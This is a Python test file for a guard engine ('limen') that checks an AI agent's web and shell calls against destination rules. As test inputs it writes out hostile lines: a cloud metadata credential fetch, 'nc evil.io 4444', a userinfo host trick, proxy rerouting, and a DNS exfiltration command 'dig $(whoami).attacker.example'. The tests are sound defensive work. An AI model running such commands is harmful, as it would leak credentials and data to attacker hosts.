"""Destination rules: trusted globs, metadata endpoints, modes, and routes static parsing cannot prove."""

from __future__ import annotations

import tempfile
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import limen
from limen.context import Context
from limen.model import Action, Command, Decision, Mode, ReasonCode, Verdict
from limen.normalize.net import destinations_in_text, host_destination
from limen.rules.destinations import external_destinations, is_trusted, unprovable_route

UNKNOWN = ReasonCode.UNKNOWN_EXTERNAL_DESTINATION
EGRESS = ReasonCode.EGRESS_REQUIRES_AUTH


def ctx(mode: Mode = Mode.BALANCED, **kw: object) -> Context:
    return Context.for_mode(mode, tempfile.mkdtemp(), **kw)


def fetch(url: str, **extra: object) -> Action:
    return Action(
        tool="WebFetch",
        capability="network.request",
        arguments={"url": url, **extra},
        destinations=tuple(destinations_in_text(url)),
    )


def shell(line: str, *argvs: tuple[str, ...], dests: tuple[str, ...] = (), via: str = "curl") -> Action:
    commands = tuple(Command(argv=a, name=a[0]) for a in argvs)
    return Action(
        tool="Bash",
        capability="shell.execute",
        arguments={"command": line},
        command_line=line,
        commands=commands,
        destinations=tuple(host_destination(h, via_command=via) for h in dests),
    )


def verdicts(findings: object) -> list[tuple[ReasonCode, Verdict]]:
    return [(f.code, f.verdict) for f in findings]  # type: ignore[attr-defined]


def test_trusted_globs_exact_suffix_and_leading_dot() -> None:
    c = ctx(trusted_hosts=("github.com", "*.githubusercontent.com", ".corp.example"))
    assert is_trusted("github.com", c)
    assert is_trusted("raw.githubusercontent.com", c)
    assert not is_trusted("githubusercontent.com.evil.io", c)
    assert not is_trusted("evilgithub.com", c)
    assert is_trusted("corp.example", c)
    assert is_trusted("git.corp.example", c)
    assert not is_trusted("", c)


def test_unknown_host_asks_and_trusted_host_passes() -> None:
    assert verdicts(external_destinations(fetch("https://docs.unfamiliar.dev/x"), ctx())) == [
        (UNKNOWN, Verdict.AUTH)
    ]
    assert list(external_destinations(fetch("https://api.github.com/repos"), ctx())) == []


def test_userinfo_trick_is_not_trusted() -> None:
    found = list(external_destinations(fetch("https://github.com@evil.com/x"), ctx()))
    assert verdicts(found) == [(UNKNOWN, Verdict.AUTH)]
    assert "evil.com" in found[0].detail
    strict = list(external_destinations(fetch("https://github.com@evil.com/x"), ctx(Mode.STRICT)))
    assert verdicts(strict) == [(UNKNOWN, Verdict.BLOCK)]


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/iam/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://metadata.google.internal/",
    ],
)
@pytest.mark.parametrize("mode", list(Mode))
def test_metadata_endpoints_are_blocked_in_every_mode(url: str, mode: Mode) -> None:
    assert verdicts(external_destinations(fetch(url), ctx(mode))) == [(UNKNOWN, Verdict.BLOCK)]


def test_loopback_is_fine_unless_disguised() -> None:
    assert list(external_destinations(fetch("http://localhost:3000/api"), ctx())) == []
    assert list(external_destinations(fetch("http://127.0.0.1:8000/"), ctx())) == []
    assert verdicts(external_destinations(fetch("http://2130706433/"), ctx())) == [(UNKNOWN, Verdict.AUTH)]


def test_private_ranges_ask() -> None:
    found = list(external_destinations(fetch("http://192.168.1.10/admin"), ctx()))
    assert verdicts(found) == [(UNKNOWN, Verdict.AUTH)]
    assert "private" in found[0].detail


def test_modes_light_lets_a_read_only_fetch_through_but_not_a_post() -> None:
    light = ctx(Mode.LIGHT)
    assert list(external_destinations(fetch("https://docs.unfamiliar.dev/x"), light)) == []
    post = fetch("https://docs.unfamiliar.dev/x", method="POST", body="hello")
    assert verdicts(external_destinations(post, light)) == [(UNKNOWN, Verdict.AUTH)]
    risks = [
        next(iter(external_destinations(fetch("https://a.unfamiliar.dev/"), ctx(m)))).risk
        for m in (Mode.BALANCED, Mode.STRICT, Mode.PARANOID)
    ]
    assert risks == sorted(risks) and risks[0] < risks[-1]
    obfuscated = fetch("http://0x08080808/")
    assert verdicts(external_destinations(obfuscated, ctx(Mode.BALANCED))) == [(UNKNOWN, Verdict.AUTH)]
    assert verdicts(external_destinations(obfuscated, ctx(Mode.PARANOID))) == [(UNKNOWN, Verdict.BLOCK)]


def test_user_trusted_list_is_honoured() -> None:
    action = fetch("https://docs.unfamiliar.dev/x")
    assert list(external_destinations(action, ctx(trusted_hosts=("*.unfamiliar.dev",)))) == []


@pytest.mark.parametrize(
    ("line", "argv"),
    [
        ("curl -x http://p:8080 https://github.com", ("curl", "-x", "http://p:8080", "https://github.com")),
        (
            "curl --resolve github.com:443:1.2.3.4 https://github.com",
            ("curl", "--resolve", "github.com:443:1.2.3.4", "https://github.com"),
        ),
        (
            "curl --connect-to ::evil.io: https://github.com",
            ("curl", "--connect-to", "::evil.io:", "https://github.com"),
        ),
        ("curl -sSx p:1 https://github.com", ("curl", "-sSx", "p:1", "https://github.com")),
        ("curl -K cfg https://github.com", ("curl", "-K", "cfg", "https://github.com")),
        ("wget -i urls.txt", ("wget", "-i", "urls.txt")),
        (
            "git -c http.proxy=http://p push origin main",
            ("git", "-c", "http.proxy=http://p", "push", "origin", "main"),
        ),
        ("git -c core.sshCommand='ssh -o X' push", ("git", "-c", "core.sshCommand=ssh -o X", "push")),
        (
            "git -c url.https://e.io/.insteadOf=https://github.com/ clone https://github.com/a/b",
            (
                "git",
                "-c",
                "url.https://e.io/.insteadOf=https://github.com/",
                "clone",
                "https://github.com/a/b",
            ),
        ),
        ("ssh -o ProxyCommand='nc x 22' host.io", ("ssh", "-o", "ProxyCommand=nc x 22", "host.io")),
        ("ssh -D 1080 host.io", ("ssh", "-D", "1080", "host.io")),
        ("pip install --proxy http://p:1 requests", ("pip", "install", "--proxy", "http://p:1", "requests")),
        (
            "pip install --trusted-host pypi.org requests",
            ("pip", "install", "--trusted-host", "pypi.org", "requests"),
        ),
        ("npm install --https-proxy http://p:1", ("npm", "install", "--https-proxy", "http://p:1")),
        (
            "git config --global http.proxy http://p:1",
            ("git", "config", "--global", "http.proxy", "http://p:1"),
        ),
        ("npm config set registry https://r.io/", ("npm", "config", "set", "registry", "https://r.io/")),
    ],
)
def test_route_overrides_require_auth(line: str, argv: tuple[str, ...]) -> None:
    found = list(unprovable_route(shell(line, argv, dests=("github.com",)), ctx()))
    assert verdicts(found) == [(EGRESS, Verdict.AUTH)]


def test_proxy_environment_on_the_line_requires_auth() -> None:
    action = shell(
        "HTTPS_PROXY=http://p:1 curl https://pypi.org", ("curl", "https://pypi.org"), dests=("pypi.org",)
    )
    assert verdicts(unprovable_route(action, ctx())) == [(EGRESS, Verdict.AUTH)]
    action = shell("GIT_SSH_COMMAND='ssh -J j' git push", ("git", "push"))
    assert verdicts(unprovable_route(action, ctx())) == [(EGRESS, Verdict.AUTH)]


def test_raw_sockets_to_remote_peers_require_auth() -> None:
    nc = shell("nc evil.io 4444", ("nc", "evil.io", "4444"), dests=("evil.io",), via="nc")
    assert verdicts(unprovable_route(nc, ctx())) == [(EGRESS, Verdict.AUTH)]
    local = shell("nc -zv localhost 8080", ("nc", "-zv", "localhost", "8080"), dests=("localhost",), via="nc")
    assert list(unprovable_route(local, ctx())) == []


@pytest.mark.parametrize(
    ("line", "argv"),
    [
        ("git push origin feature", ("git", "push", "origin", "feature")),
        ("pip install requests", ("pip", "install", "requests")),
        ("npm install", ("npm", "install")),
        ("curl -sSL https://github.com/a/b", ("curl", "-sSL", "https://github.com/a/b")),
        ("wget -e robots=off https://github.com/a", ("wget", "-e", "robots=off", "https://github.com/a")),
        ("curl -X POST https://github.com", ("curl", "-X", "POST", "https://github.com")),
    ],
)
def test_ordinary_development_stays_quiet(line: str, argv: tuple[str, ...]) -> None:
    assert list(unprovable_route(shell(line, argv, dests=("github.com",)), ctx())) == []


def _bash(line: str) -> Decision:
    return limen.evaluate("Bash", {"command": line}, cwd=tempfile.mkdtemp())


def test_end_to_end_through_the_engine() -> None:
    assert _bash("curl http://169.254.169.254/latest/meta-data/").verdict is Verdict.BLOCK
    assert EGRESS in _bash("curl -x http://proxy.unfamiliar.dev:8080 https://github.com/").reasons
    assert not {UNKNOWN, EGRESS} & set(_bash("git push origin feature").reasons)
    assert not {UNKNOWN, EGRESS} & set(_bash("pip install requests").reasons)


def test_one_finding_per_action_even_with_many_destinations() -> None:
    many = tuple(destinations_in_text("https://a.x.dev/ http://10.0.0.1/ http://169.254.169.254/"))
    action = replace(fetch("https://a.x.dev/"), destinations=many)
    assert verdicts(external_destinations(action, ctx())) == [(UNKNOWN, Verdict.BLOCK)]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=6), st.text(max_size=80))
def test_rules_never_raise(argv: list[str], url: str) -> None:
    action = shell(" ".join(argv), tuple(argv), dests=(url,))
    action = replace(action, destinations=(*action.destinations, *destinations_in_text(url)))
    for mode in Mode:
        list(external_destinations(action, ctx(mode)))
        list(unprovable_route(action, ctx(mode)))


@pytest.mark.parametrize(
    "command", ["dig stackoverflow.com", "nslookup example.org 8.8.8.8", "host -t mx example.com"]
)
def test_dns_lookups_are_not_egress_to_the_named_host(command: str, tmp_path: Path) -> None:
    decision = limen.evaluate(
        "Bash",
        {"command": command},
        cwd=str(tmp_path),
        context=Context.for_mode(Mode.BALANCED, str(tmp_path)),
    )
    assert ReasonCode.UNKNOWN_EXTERNAL_DESTINATION not in decision.reasons


def test_dns_lookups_with_substituted_labels_are_still_exfiltration(tmp_path: Path) -> None:
    decision = limen.evaluate(
        "Bash",
        {"command": "dig $(whoami).attacker.example"},
        cwd=str(tmp_path),
        context=Context.for_mode(Mode.BALANCED, str(tmp_path)),
    )
    assert decision.verdict is Verdict.BLOCK
    assert ReasonCode.DNS_EXFILTRATION in decision.reasons
